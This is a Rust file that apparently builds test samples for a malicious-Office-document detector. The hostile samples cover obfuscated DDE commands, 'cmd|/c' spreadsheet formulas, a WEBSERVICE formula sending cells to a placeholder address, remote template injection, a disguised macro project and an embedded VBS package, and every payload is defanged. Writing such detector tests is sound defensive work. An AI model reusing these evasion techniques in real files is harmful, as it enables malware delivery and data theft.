//! Office documents of XML: in one file, and in packages that are put together oddly.

use crate::Sample;
use crate::mark;
use crate::office::cfb::{Cfb, packaged};
use crate::office::macros;
use crate::office::ooxml::Package;
use crate::office::single_xml::{base64, excel_2003, field, instruction, paragraph, word_2003, zlib};
use crate::office::vba::{Module, Project};

/// The samples.
pub(super) fn all() -> Vec<Sample> {
    [single_files(), packages(), honest()].into_iter().flatten().collect()
}

fn single_files() -> Vec<Sample> {
    vec![
        Sample {
            id: "xd1",
            file_name: "航空券控え.xml",
            about: "a dropper as Flat OPC, its macro project under a name and a type of something else",
            make: || {
                let project = macros::vba_project(&macros::ticket_project("xd1"));
                Package::docm("航空券控え", project.clone())
                    .part("word/vbaProject.bin", "", "")
                    .part("word/printerSettings1.bin", "application/octet-stream", project)
                    .relation(
                        "word/document.xml",
                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                        "printerSettings1.bin",
                        false,
                    )
                    .flat()
            },
        },
        Sample {
            id: "xd2",
            file_name: "請求書.xml",
            about: "Word 2003 XML whose DDE command is kept in a SET field and in character codes, and a template from an address",
            make: || {
                let set = field(&format!(
                    "{}{}",
                    instruction("SET a "),
                    field(&instruction("QUOTE 104 97 114 109 108 101 115 115"))
                ));
                let dde = field(&format!(
                    "{}{}{}{}",
                    field(&instruction("QUOTE 68 68 69 65 85 84 79")),
                    instruction(" "),
                    field(&instruction("REF a")),
                    instruction("-none.exe \"/k x\"")
                ));
                word_2003(&format!(
                    "<w:docPr><w:attachedTemplate w:val=\"http://192.0.2.20/t.dot\"/></w:docPr><w:body><w:p>{set}</w:p>\
                     <w:p>{dde}</w:p></w:body>"
                ))
            },
        },
        Sample {
            id: "xd3",
            file_name: "集計.xml",
            about: "Excel 2003 XML with a linked book and a formula that start programs",
            make: || {
                excel_2003(
                    "<SupBook>\r\n<Path>cmd|/c harmless-none.exe</Path></SupBook>",
                    "<Row><Cell ss:Formula=\"=MSEXCEL|&apos;\\..\\harmless-none.exe /x&apos;!A1\"/></Row>",
                )
            },
        },
        Sample {
            id: "xd4",
            file_name: "納品書.xml",
            about: "Word 2003 XML whose compound file of objects holds a packed script",
            make: || {
                let script = format!("' {}\r\nWScript.Echo 1\r\n", mark("xd4"));
                let stream = packaged("納品書.vbs", r"C:\Users\taro\納品書.vbs", script.as_bytes());
                let object = Cfb::new().class("", PACKAGE).stream("\u{1}Ole10Native", stream).build();
                let size = u32::try_from(object.len()).unwrap_or_default().to_le_bytes();
                let data = Cfb::new().stream("_1577691300", [size.to_vec(), zlib(&object)].concat()).build();
                word_2003(&format!(
                    "<w:docOleData><w:binData w:name=\"oledata.mso\">{}</w:binData></w:docOleData><w:body>{}</w:body>",
                    base64(&data),
                    paragraph("納品書")
                ))
            },
        },
    ]
}

fn packages() -> Vec<Sample> {
    vec![
        Sample {
            id: "xd5",
            file_name: "給与明細.docx",
            about: "cut off before its directory, as documents meant for repair are, with a template from an address",
            make: || {
                let mut bytes =
                    Package::docx("給与明細").external("word/settings.xml", "attachedTemplate", TEMPLATE).build();
                let directory = bytes.windows(4).position(|four| four == b"PK\x01\x02").unwrap_or_default();
                bytes.truncate(directory);
                bytes
            },
        },
        Sample {
            id: "xd6",
            file_name: "見積書.docm",
            about: "a macro of one reference to a document variable that holds base64",
            make: || {
                let source = "Sub AutoOpen()\r\n    Debug.Print ActiveDocument.Variables(\"a\").Value\r\nEnd Sub\r\n";
                let project =
                    Project::new(vec![Module::document("ThisDocument", ""), Module::standard("Module1", source)]);
                let value = base64(
                    format!("{} harmless text that stands for a payload of some length", mark("xd6")).as_bytes(),
                );
                Package::docm("見積書", macros::vba_project(&project))
                    .part(
                        "word/settings.xml",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
                        format!(
                            "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:docVars>\
                             <w:docVar w:name=\"a\" w:val=\"{}\"/></w:docVars></w:settings>",
                            value.replace("\r\n", "")
                        ),
                    )
                    .build()
            },
        },
        Sample {
            id: "xd7",
            file_name: "為替.xlsx",
            about: "a Power Query that fetches from an address when the workbook opens",
            make: || power_query("Web.Page(Web.Contents(\"http://192.0.2.30/rates\"))", "http://192.0.2.30/rates"),
        },
        Sample {
            id: "xd8",
            file_name: "申込書.docx",
            about: "a web add-in from a share outside the network, and an add-in that lies beside the document",
            make: || {
                Package::docx("申込書")
                    .part(
                        "word/webextensions/webextension1.xml",
                        "application/vnd.ms-office.webextension+xml",
                        "<we:webextension xmlns:we=\"http://schemas.microsoft.com/office/webextensions/webextension/2010/11\">\
                         <we:reference id=\"a\" version=\"1.0\" store=\"\\\\192.0.2.31\\addins\" storeType=\"FileSystem\"/>\
                         <we:properties><we:property name=\"Office.AutoShowTaskpaneWithDocument\" value=\"true\"/>\
                         </we:properties></we:webextension>",
                    )
                    .part(
                        "docProps/custom.xml",
                        "application/vnd.openxmlformats-officedocument.custom-properties+xml",
                        "<Properties><property name=\"_AssemblyLocation\"><lpwstr>form.vsto|a|vstolocal</lpwstr></property></Properties>",
                    )
                    .internal("", "custom-properties", "docProps/custom.xml")
                    .build()
            },
        },
        Sample {
            id: "xd9",
            file_name: "会社案内.pptx",
            about: "a slide that starts a program when the mouse is over its text",
            make: || {
                Package::pptx(
                    "<p:sp><p:txBody><a:p><a:r><a:rPr><a:hlinkMouseOver r:id=\"rId1\" action=\"ppaction://program\"/></a:rPr>\
                     <a:t>Loading...</a:t></a:r></a:p></p:txBody></p:sp>",
                )
                .external("ppt/slides/slide1.xml", "hyperlink", "harmless-none.exe%20HARMLESS-SAMPLE/1")
                .build()
            },
        },
        Sample {
            id: "xd10",
            file_name: "請求書.docx",
            about: "relationships in UTF-16 with single quotes, references for letters and the strict namespace",
            make: || {
                let relations = "<?xml version='1.0' encoding='UTF-16'?><R:Relationships \
                     xmlns:R='http://schemas.openxmlformats.org/package/2006/relationships'><R:Relationship Id='rId9' \
                     Type='http://purl.oclc.org/ooxml/officeDocument/relationships/attached&#84;emplate' \
                     Target='&#104;ttp://192.0.2.20/t.dotm' TargetMode='External'/></R:Relationships>";
                let wide: Vec<u8> = relations.encode_utf16().flat_map(u16::to_le_bytes).collect();
                Package::docx("請求書")
                    .part("word/_rels/settings.xml.rels", "", [vec![0xFF, 0xFE], wide].concat())
                    .build()
            },
        },
        Sample {
            id: "xd12",
            file_name: "単価表.xlsx",
            about: "formulas that start a program and that send cells to an address, in a sheet stored twice with other content",
            make: || {
                let sheet = |row: &str| {
                    format!(
                        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row>{row}</row>\
                         </sheetData></worksheet>"
                    )
                };
                let calls = "<c r=\"A1\"><f>cmd|'/c harmless-none.exe'!A1</f></c><c r=\"B1\"><f>_xlfn.WEBSERVICE(\"http://192.0.2.30/?\"&amp;C1)</f></c>";
                Package::xlsx("品名\t単価").part("xl/Worksheets/Sheet1.xml", "", sheet(calls)).build()
            },
        },
        Sample {
            id: "xd11",
            file_name: "案内状.docx",
            about: "a DDE command in a footer that no relationship leads to, put together of a document variable and a bookmark",
            make: || {
                let dde = field(&format!(
                    "{}{}{}{}",
                    instruction("DDEAUTO "),
                    field(&instruction("DOCVARIABLE a")),
                    instruction(" /k "),
                    instruction("harmless")
                ));
                Package::docx("案内状")
                    .part(
                        "word/settings.xml",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
                        "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:docVars>\
                         <w:docVar w:name=\"a\" w:val=\"harmless-none.exe\"/></w:docVars></w:settings>",
                    )
                    .part(
                        "word/footer9.xml",
                        "",
                        format!(
                            "<w:ftr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:p>{dde}</w:p></w:ftr>"
                        ),
                    )
                    .build()
            },
        },
    ]
}

const TEMPLATE: &str = "http://192.0.2.20/t.dotm";

/// A workbook with a Power Query of this formula and a connection to this address.
fn power_query(formula: &str, address: &str) -> Vec<u8> {
    let package = Package::default()
        .part("Formulas/Section1.m", "text/plain", format!("section Section1;\r\n\r\nshared Query1 = {formula};"))
        .build();
    let size = u32::try_from(package.len()).unwrap_or_default().to_le_bytes();
    let bytes = [vec![0; 4], size.to_vec(), package, vec![0; 12]].concat();
    let mashup = format!(
        "<?xml version=\"1.0\" encoding=\"utf-16\"?><DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">{}</DataMashup>",
        base64(&bytes)
    );
    let wide: Vec<u8> = mashup.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let connection = if address.is_empty() {
        "<dbPr connection=\"Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Query1\" command=\"SELECT * FROM [Query1]\"/>"
            .to_owned()
    } else {
        format!("<webPr url=\"{address}\"/>")
    };
    Package::xlsx("日付\t値")
        .part("customXml/item1.xml", "application/xml", [vec![0xFF, 0xFE], wide].concat())
        .part(
            "xl/connections.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
            format!(
                "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\" \
                 name=\"Query1\" refreshOnLoad=\"1\">{connection}</connection></connections>"
            ),
        )
        .internal("xl/workbook.xml", "customXml", "../customXml/item1.xml")
        .internal("xl/workbook.xml", "connections", "connections.xml")
        .build()
}

const PACKAGE: &str = "0003000C-0000-0000-C000-000000000046";

fn honest() -> Vec<Sample> {
    vec![
        Sample {
            id: "xh1",
            file_name: "議事録.xml",
            about: "a plain document as Flat OPC",
            make: || {
                Package::docx("議事録\n出席者：山田、佐藤")
                    .external("word/document.xml", "hyperlink", "https://example.com/minutes")
                    .flat()
            },
        },
        Sample {
            id: "xh4",
            file_name: "月次.xlsx",
            about: "a Power Query over a file of the writer's machine, refreshed when the workbook opens",
            make: || power_query("Excel.Workbook(File.Contents(\"C:\\Users\\taro\\data.xlsx\"))", ""),
        },
        Sample {
            id: "xh5",
            file_name: "社内様式.docx",
            about: "a template on a named file server, a linked workbook on SharePoint, pictures of the web and a linked book",
            make: || {
                Package::docx("社内様式")
                    .external("word/settings.xml", "attachedTemplate", r"file:///\\files.example.com\forms\form.dotx")
                    .external(
                        "word/document.xml",
                        "oleObject",
                        "https://books.example.com/sites/a/book.xlsx!Sheet1!R1C1",
                    )
                    .external("word/document.xml", "image", "https://www.example.com/logo.png")
                    .external("word/document.xml", "hyperlink", "mailto:taro@example.com")
                    .build()
            },
        },
        Sample {
            id: "xh2",
            file_name: "議事録.xml",
            about: "a plain Word 2003 XML document with page numbers, a link and a template of the writer's machine",
            make: || {
                word_2003(&format!(
                    "<w:docPr><w:attachedTemplate w:val=\"C:\\Users\\taro\\form.dot\"/></w:docPr><w:body>{}<w:p>{}</w:p>\
                     <w:hlink w:dest=\"https://example.com/\"/></w:body>",
                    paragraph("議事録"),
                    field(&instruction(" PAGE "))
                ))
            },
        },
        Sample {
            id: "xh3",
            file_name: "売上.xml",
            about: "a plain Excel 2003 XML workbook with formulas, a link to a book of the writer's machine and a bar in a text",
            make: || {
                excel_2003(
                    "<SupBook><Path>C:\\Users\\taro\\master.xls</Path></SupBook>",
                    "<Row><Cell ss:Formula=\"=SUM(R1C1:R3C1)\"><Data ss:Type=\"Number\">3</Data></Cell>\
                     <Cell><Data ss:Type=\"String\">a|b</Data></Cell></Row>",
                )
            },
        },
    ]
}
